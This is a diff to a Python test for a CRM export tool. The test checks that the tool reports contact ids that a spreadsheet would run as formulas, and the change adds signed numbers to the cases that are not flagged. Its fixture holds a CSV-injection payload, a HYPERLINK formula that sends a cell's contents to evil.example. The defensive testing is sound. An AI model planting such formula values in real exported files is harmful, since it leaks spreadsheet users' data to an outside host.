@@ -136,9 +136,10 @@ def test_a_csv_says_how_many_ids_a_spreadsheet_would_run_as_formulas(
     """Privacy review: ids such as `=HYPERLINK(...)` were written verbatim into the CRM's CSV
     without a word; a spreadsheet opening it runs them. They are the CRM's own ids, so they
     are kept as they are (a changed id would not match its contact on import), and said."""
-    some = pl.read_parquet(scored)["contact_id"].head(3).to_list()
+    some = pl.read_parquet(scored)["contact_id"].head(4).to_list()
     formulas = {some[0]: '=HYPERLINK("http://evil.example/?x="&A2,"click")', some[1]: "@SUM(1+1)"}
     formulas[some[2]] = "-5"  # a signed number: a spreadsheet reads it as one, runs nothing
+    formulas[some[3]] = "-1e3"
     folder = tmp_path / "data"
     folder.mkdir()
     for name, table in (("events", served.events), ("contacts", served.contacts)):
@@ -152,7 +153,7 @@ def test_a_csv_says_how_many_ids_a_spreadsheet_would_run_as_formulas(
     )
     assert result.exit_code == 0, result.output
     said = " ".join(result.output.split())
-    assert "2 contact ids in the CSV start with =, +, -, @" in said
+    assert "2 contact ids in the CSV start with = or @, or with + or - and are not a number" in said
     written = set(pl.read_csv(out, infer_schema=False)["contact_id"])
     assert set(formulas.values()) <= written
 
